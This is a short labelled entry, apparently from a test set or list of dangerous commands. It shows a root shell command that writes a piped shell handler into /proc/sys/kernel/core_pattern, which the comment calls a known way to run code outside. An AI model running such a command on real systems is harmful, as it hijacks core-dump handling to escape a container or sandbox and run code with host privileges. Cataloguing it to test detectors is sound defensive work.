# what: as root, rewrite /proc/sys/kernel/core_pattern (a known way to run code outside)
# user: root
echo "|/bin/sh -c id" >/proc/sys/kernel/core_pattern
